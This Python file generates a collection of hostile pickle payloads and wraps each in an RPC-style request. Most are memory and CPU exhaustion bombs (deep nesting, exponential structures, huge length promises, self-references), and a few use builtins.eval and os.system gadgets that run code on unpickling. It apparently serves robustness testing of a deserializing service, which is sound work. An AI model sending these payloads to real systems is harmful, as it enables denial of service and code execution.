"""Pickles that are small, or at least sent quickly, and want to become large, deep or slow."""
import pickle
import struct


def request(ident, method, arguments):
    """The request with `arguments`, opcodes that push each argument once, as its arguments."""
    name = ident.encode()
    head = b'\x80\x04(\x8c' + bytes([len(name)]) + name + b'\x8c' + bytes([len(method)])
    return head + method.encode() + b'(' + arguments + b't}t.'


def doubling(empty, last):
    """Forty levels, each of which holds the one below twice: 2^40 leaves."""
    body = empty
    for level in range(40):
        body += b'q' + bytes([level]) + b'0(h' + bytes([level]) + b'h' + bytes([level]) + last
    return body


def wide(levels):
    """Tuples of ten times the tuple below."""
    body = b')'
    for level in range(levels):
        body += b'q' + bytes([level]) + b'0(' + (b'h' + bytes([level])) * 10 + b't'
    return body


def frozen(levels):
    """Frozen sets within frozen sets, which a hash would walk."""
    body = b'(\x91'
    for level in range(levels):
        memo = bytes([level])
        body += b'q' + memo + b'0((h' + memo + b'K' + memo + b't' + b'(h' + memo + b'K\xfft\x91'
    return body


def arguments():
    """For each bomb its name and the opcodes that push it."""
    deep = 100000
    return [
        ('deep tuples', b')' + b'\x85' * deep),
        ('deep lists', b']' * deep + b'a' * (deep - 1)),
        ('deep dicts', b'}K\x01' * deep + b'}' + b's' * deep),
        ('very deep tuples', b')' + b'\x85' * 500000),
        ('a million marks', b'(' * 1000000 + b't' * 1000000),
        ('a million objects', b'(' + b']' * 1000000 + b't'),
        ('a million nones on the stack', b'N' * 1000000),
        ('doubled tuples', doubling(b')', b't')),
        ('doubled lists', doubling(b']', b'l')),
        ('tenfold tuples', wide(30)),
        ('frozen sets', frozen(30)),
        ('a long memo index', b'N' + b'r\xff\xff\xff\xff'),
        ('many memo entries', b'N' + b''.join(
            b'r' + struct.pack('<I', index) for index in range(200000))),
        ('duplicates', b'](' + b'2' * 300000 + b't'),
        ('a promise of a long string', b'\x8d' + struct.pack('<Q', 2**62) + b'x'),
        ('a promise of long bytes', b'\x8e' + struct.pack('<Q', 2**63 - 1) + b'x'),
        ('a promise of a long bytearray', b'\x96' + struct.pack('<Q', 2**40) + b'x'),
        ('a promise of a long int', b'\x8b' + struct.pack('<i', 2**31 - 1) + b'x'),
        ('a promise of a frame', b'\x95' + struct.pack('<Q', 2**62) + b'N'),
        ('an int of a million bits', pickle.dumps(2**1000000, 4)[2:-1]),
        ('an int of a million digits', b'L' + b'9' * 1000000 + b'L\n'),
        ('a list that holds itself', b']q\0h\0a'),
        ('a tuple that holds itself', b']q\x01(h\x01tq\x02ah\x02'),
        ('a dict of itself', b'}q\x07K\x01h\x07s'),
        ('a call of a call', b'cbuiltins\neval\n(cbuiltins\neval\n(\x8c\x011tRtR'),
        ('a system call', b'cos\nsystem\n(\x8c\x04exittR'),
        ('an object of objects', b'cbuiltins\nobject\n)\x81' * 20000 + b'0' * 19999),
        ('a build of itself', b'cbuiltins\nobject\n)\x81q\x05h\x05b'),
    ]
